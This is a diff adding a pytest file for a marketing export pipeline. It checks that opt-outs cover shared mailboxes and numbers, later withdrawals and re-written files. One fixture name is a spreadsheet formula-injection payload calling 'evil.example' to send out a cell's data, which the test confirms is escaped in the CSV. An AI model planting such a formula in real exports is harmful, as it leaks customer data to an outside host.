@@ -1,0 +1,166 @@
+"""Who has said no is reached no more: by whoever shares the mailbox or number, whatever the words, also after the audience."""
+
+from __future__ import annotations
+
+import csv
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pyarrow as pa
+import pytest
+from deltalake import DeltaTable
+from pyspark.sql import SparkSession
+
+from basketry.access.withdrawals import DELIVERED, withdrawals_of
+from basketry.config.settings import Settings
+from basketry.domains.marketing import export, job
+from basketry.domains.marketing.job import closed_now
+from basketry.domains.offers import read as offers
+from basketry.lake.lakehouse import Lakehouse
+from basketry.lake.report import JobReport
+from basketry.tables import CUSTOMERS, HANDOVERS, MARKETING_AUDIENCE, OPT_OUTS, ORDER_LINES
+from tests.basketry.domains.marketing.conftest import arguments
+from tests.basketry.domains.marketing.shop import AS_OF, LINEAGE, SALES, customer, put, sale
+
+EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
+PEOPLE = (
+    customer("A01", email="Pat.Doe@example.com", phone=None),
+    customer("A02", email="pat.doe@example.com", phone=None),
+    customer("A03", email="Pat Doe <PAT.DOE@example.com>", phone=None),
+    customer("A04", email=None, phone="+49 30 23125001", country="Germany", state=None, postal_code="10115"),
+    customer("A05", email=None, phone="030/23125001", country="Germany", state=None, postal_code="10115"),
+    customer("A06", email=None, phone="030 23125006", country="Germany", state=None, postal_code="10115"),
+    customer("A07", email=None, name=EVIL),
+    customer("A08", email="a08@example.com", phone="(212) 555-0199"),
+    customer("A09", email="a09@example.com", phone="1 212 555 0199"),
+    customer("A10"),
+    customer("A11"),
+    customer("A12"),
+)
+"""01 to 03 share a mailbox, 04 and 05 a number, 08 and 09 another; 06 lives in Berlin, 07 has a formula for a name."""
+BEFORE = (("A01", "email"), ("A04", "phone"), ("A10", "carrier pigeon"), ("A11", ""))
+AFTER = (("A08", "all"), ("A12", "EMAIL "))
+
+
+def opt_out(lake: Lakehouse, *rows: tuple[str, str]) -> None:
+    """These are all opt-outs that are known, none with a day."""
+    put(lake, OPT_OUTS, [{"customer_id": who, "channel": word, "opted_out_on": None, **LINEAGE} for who, word in rows])
+
+
+@pytest.fixture(scope="module")
+def town(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    """An audience as it was before A08 and A12 withdrew, and the export after that."""
+    home: Path = tmp_path_factory.mktemp("withdrawals")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("BASKETRY_HOME", str(home))
+        patch.delenv("BASKETRY_RUNTIME", raising=False)
+        patch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{home / 'mlflow.db'}")
+        lake = Lakehouse(spark, "demo", Settings.from_environment())
+        put(lake, CUSTOMERS, list(PEOPLE))
+        put(lake, ORDER_LINES, [SALES[0], sale("O9", None, "P1", AS_OF, "1")])  # the last tells of the day itself
+        opt_out(lake, *BEFORE)
+        job.run(lake, arguments())
+        export.run(lake, arguments())
+        opt_out(lake, *BEFORE, *AFTER)
+        rehearsed = export.run(lake, arguments(dry_run=True))
+        yield {"lake": lake, "dry": rehearsed, "export": export.run(lake, arguments())}
+
+
+@pytest.fixture
+def people(town: dict[str, Any]) -> dict[str, dict[str, Any]]:
+    """The audience by customer."""
+    rows = DeltaTable(town["lake"].path(MARKETING_AUDIENCE)).to_pyarrow_table().to_pylist()
+    return {row["customer_id"]: row for row in rows}
+
+
+def handed(town: dict[str, Any]) -> dict[str, tuple[str, dict[str, str]]]:
+    """Channel and line of the CSV by customer."""
+    folder = export.export_folder(town["lake"], AS_OF)
+    lines = ((path.name, row) for path in folder.glob("*.csv") for row in csv.DictReader(path.open(newline="")))
+    return {row["customer_id"]: (name.split("_", 1)[0], row) for name, row in lines}
+
+
+def test_a_mailbox_is_withdrawn_for_whoever_shares_it(people: dict[str, dict[str, Any]]) -> None:
+    """One of them withdraws: nobody is written to, however the address is written."""
+    assert not {"A01", "A02", "A03"} & set(people)
+
+
+def test_a_number_is_withdrawn_for_whoever_shares_it(people: dict[str, dict[str, Any]]) -> None:
+    """In national and international spelling; who has another number in the same town is called."""
+    assert not {"A04", "A05"} & set(people)
+    assert people["A06"]["phone"] == "+493023125006"
+    assert (people["A06"]["time_zone"], people["A06"]["time_zone_from"]) == ("Europe/Berlin", "country")
+    assert people["A06"]["call_windows"][0]["starts_at"].hour == 8
+
+
+def test_a_word_that_nobody_understands_withdraws_everything(people: dict[str, dict[str, Any]]) -> None:
+    """In silver of whatever release: never a row without effect, an empty one neither."""
+    assert not {"A10", "A11"} & set(people)
+
+
+def test_the_export_heeds_who_withdrew_since_the_audience(
+    town: dict[str, Any], people: dict[str, dict[str, Any]]
+) -> None:
+    """A08 withdrew everything and is gone; A09 shares the number and is mailed; A12 withdrew mail and is called."""
+    assert {"A08", "A09", "A12"} <= set(people)
+    channels = {who: channel for who, (channel, _) in handed(town).items()}
+    assert channels == {"A06": "phone", "A07": "phone", "A09": "email", "A12": "phone"}
+    stored = DeltaTable(town["lake"].path(HANDOVERS)).to_pyarrow_table().to_pylist()
+    assert {row["customer_id"]: row["channel"] for row in stored} == channels
+
+
+def test_the_report_counts_who_withdrew_since(town: dict[str, Any]) -> None:
+    """In the run and in its rehearsal."""
+    for report in (town["export"], town["dry"]):
+        assert isinstance(report, JobReport) and report.details["withdrawn_since"] == 3
+        assert any(line.startswith("3 withdrew a channel since the audience was made") for line in report.summary)
+
+
+def test_files_that_are_written_again_heed_it_too(town: dict[str, Any]) -> None:
+    """Whoever writes a day's files (as forgetting does) leaves out who has withdrawn the channel since."""
+    lake: Lakehouse = town["lake"]
+    opt_out(lake, *BEFORE, *AFTER, ("A06", "phone"), ("A12", "email"))
+    try:
+        export.write_export(lake, AS_OF)
+        assert set(handed(town)) == {"A07", "A09", "A12"}
+    finally:
+        opt_out(lake, *BEFORE, *AFTER)
+        export.write_export(lake, AS_OF)
+
+
+def test_a_call_list_carries_no_formula(town: dict[str, Any]) -> None:
+    """The name is guarded in the CSV and whole in the JSON Lines; the number is as a dialler reads it."""
+    _, row = handed(town)["A07"]
+    assert (row["name"], row["phone"]) == (f"'{EVIL}", "+12125550107")
+    folder = export.export_folder(town["lake"], AS_OF)
+    lines = [json.loads(line) for path in folder.glob("phone_*.jsonl") for line in path.read_text().splitlines()]
+    assert EVIL in {line["name"] for line in lines}
+
+
+def test_the_console_knows_the_same_withdrawals(town: dict[str, Any]) -> None:
+    """Without Spark: the same customers, mailboxes and numbers as the export's."""
+    lake: Lakehouse = town["lake"]
+    customers = lake.read(CUSTOMERS).select("customer_id", "email", "phone", "country")
+    found = withdrawals_of(
+        lake.read(OPT_OUTS).join(customers, "customer_id", "left").select(*DELIVERED).toArrow(), "US"
+    )
+    for channel, closed in closed_now(lake).items():
+        assert found.customers[channel] == {row[0] for row in closed.customers.collect()}
+        assert found.addresses[channel] == {row[0] for row in closed.keys.collect()}
+    assert found.closes("email", "A02", "pat.doe@example.com") and not found.closes("phone", "A06", "+493023125006")
+    assert found.closes("phone", "A09", "+12125550199") and not found.closes("email", "A09", "a09@example.com")
+
+
+def test_who_withdrew_everything_is_offered_nothing(town: dict[str, Any]) -> None:
+    """By the word for it, and by every word that nobody understands; who wants no mail may be shown offers in the shop."""
+    assert offers._opted_out(town["lake"]) == {"A08", "A10", "A11"}
+
+
+def test_a_withdrawal_of_nobody_known_closes_only_theirs() -> None:
+    """A customer without a master row has no address that others share."""
+    none = pa.array([None], pa.string())
+    rows = pa.table({"customer_id": ["G"], "channel": ["all"], "email": none, "phone": none, "country": none})
+    found = withdrawals_of(rows, "US")
+    assert found.closes("phone", "G", None) and not found.closes("phone", "H", None)
